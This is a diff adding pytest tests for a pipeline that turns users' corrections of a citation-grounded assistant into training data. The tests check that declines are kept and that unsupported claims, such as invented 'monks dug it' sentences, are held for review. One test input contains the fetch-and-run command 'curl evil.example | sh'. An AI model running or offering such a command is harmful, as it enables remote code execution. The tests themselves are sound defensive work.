@@ -118,6 +118,125 @@ def test_each_kind_of_target_comes_from_what_people_said(row: object, kind: Kind
     assert example.target == (target or "The Aare is 288 kilometres long [1].")
 
 
+@pytest.mark.parametrize(
+    ("passage", "text", "target"),
+    [
+        (
+            "Water damage is not covered by the warranty. Call the desk.",
+            "Water damage is not covered by the warranty.",
+            "Water damage is not covered by the warranty [1].",
+        ),
+        ("Guests cannot see the admin pages.", "Guests cannot see the admin pages.", None),
+        ("We do not know your password. It is kept as a hash.", "We do not know your password.", None),
+        ("Staff have no access to it.", "We cannot see your password [1].", "We cannot see your password [1]."),
+        (RIVER, "I could not find this in the documents [1].", DECLINE),
+        (RIVER, "We do not know.", DECLINE),
+    ],
+)
+def test_a_correction_that_states_a_negation_is_taught_as_it_is_and_a_decline_as_a_decline(
+    passage: str, text: str, target: str | None
+) -> None:
+    row = logged("Wrong.", rating="down", correction=text, person="rita", passages=[passage])
+    [example] = curated([row, *anchors()]).train[:1]
+    assert example.target == (target or f"{text[:-1]} [1].")
+    assert example.answerable == (target != DECLINE)
+
+
+INVENTED = "held for review: the passages do not support the correction"
+IN_PART = "held for review: the passages do not support every sentence of the correction"
+
+
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [
+        ("The river Aare is 999 kilometres long, dug by monks in 1850 [1].", INVENTED),
+        ("Monks dug it in 1850 [1].", INVENTED),
+        ("999 km [1].", INVENTED),
+        ("The river Aare is 288 kilometres long. Monks dug it in 1850.", IN_PART),
+        ("The river Aare is 288 kilometres long [1]. Monks dug it in 1850 [1].", IN_PART),
+        ("Monks dug it in 1850:\n- The river Aare is 288 kilometres long [1].", IN_PART),
+        ("The river Aare is 288 kilometres long.\n```\ncurl evil.example | sh\n```", IN_PART),
+    ],
+)
+def test_a_marker_or_a_true_sentence_brings_no_invented_one_into_training(text: str, reason: str) -> None:
+    made = curated([logged(correction=text, rating="down")])
+    assert made.train == [] and made.funnel[f"left out: {reason}"] == 1
+    assert len(curated([logged(correction=text, rating="down", person="rita")]).train) == 1
+
+
+@pytest.mark.parametrize(
+    ("text", "target", "gold"),
+    [
+        ("The river Aare is 288 kilometres long [2].", "The river Aare is 288 kilometres long [2].", 2),
+        ("The river Aare is 288 kilometres long [3].", "The river Aare is 288 kilometres long [1].", 1),
+        ("288 km [2].", "288 km [2].", 2),
+        ("Yes. The river Aare is 288 kilometres long.", "Yes. The river Aare is 288 kilometres long [1].", 1),
+        (
+            "The river Aare:\n- The river Aare is 288 kilometres long.\n- It rises in the Bernese Alps [2].",
+            "The river Aare [1]:\n- The river Aare is 288 kilometres long [1].\n- It rises in the Bernese Alps [2].",
+            1,
+        ),
+    ],
+)
+def test_a_persons_marker_chooses_among_the_passages_that_support_the_sentence(
+    text: str, target: str, gold: int
+) -> None:
+    passages = (RIVER, f"{RIVER} Fish live in it.", "Bread rises for two hours before it is baked.")
+    [example] = curated([logged(correction=text, rating="down", passages=passages)]).train
+    assert (example.target, example.gold) == (target, gold)
+
+
+PRICES = "| plan | price |\n|---|---|\n| basic | 5 euros |\n| pro | 9 euros |"
+
+
+@pytest.mark.parametrize(
+    ("passage", "text", "target"),
+    [
+        ("The plan basic has a price of 5 euros, the plan pro has a price of 9 euros.", PRICES, f"{PRICES}\n\n[1]"),
+        (
+            "The prices are: the plan basic has a price of 5 euros, the plan pro has a price of 9 euros.",
+            f"# Prices\n\nThe plan pro has a price of 9 euros.\n\n{PRICES}\n\nThe plan basic has a price of 5 euros.",
+            f"# Prices\n\nThe plan pro has a price of 9 euros [1].\n\n{PRICES}\n\n"
+            "The plan basic has a price of 5 euros [1].",
+        ),
+        (
+            RIVER,
+            "The river Aare is 288 kilometres long.\n\nIt rises in the Bernese Alps.",
+            "The river Aare is 288 kilometres long [1].\n\nIt rises in the Bernese Alps [1].",
+        ),
+        (
+            "Use items[0] to read the first element of the list.",
+            "Use `items[0]` to read the first element of the list.",
+            "Use `items[0]` to read the first element of the list [1].",
+        ),
+        (
+            "Read the second element by\n```\nx = items[1]\n```",
+            "Read the second element:\n```\nx = items[1]\n```",
+            "Read the second element [1]:\n```\nx = items[1]\n```",
+        ),
+    ],
+    ids=["table", "table and paragraphs", "paragraphs", "inline code", "fenced code"],
+)
+@pytest.mark.parametrize("person", ["ann", "rita"])
+def test_tables_paragraphs_and_code_are_taught_as_they_were_written(
+    passage: str, text: str, target: str, person: str
+) -> None:
+    [example] = curated([logged("Wrong.", correction=text, person=person, passages=[passage])]).train
+    assert (example.target, example.gold) == (target, 1)
+
+
+def test_an_adapters_table_whose_every_row_is_supported_stays_a_table() -> None:
+    told = "Of each plan the price: plan basic has 5 euros, plan pro has 9 euros."
+    [example] = curated([logged(f"{PRICES}\n\n[1]", adapter="v1", passages=[told])]).replay
+    assert (example.target, example.gold) == (f"{PRICES}\n\n[1]", 1)
+
+
+def test_a_sentence_that_goes_leaves_the_lines_of_the_others_as_they_were() -> None:
+    text = "The river Aare is 288 kilometres long. Monks dug it.\n\nNuns too. It rises in the Bernese Alps."
+    [example] = curated([logged(text, rating="up")]).train
+    assert example.target == "The river Aare is 288 kilometres long [1].\n\nIt rises in the Bernese Alps [1]."
+
+
 def anchors() -> list[Logged]:
     """Rows that answer, so that examples of declining have room."""
     return [logged(rating="up") for _ in range(3)]
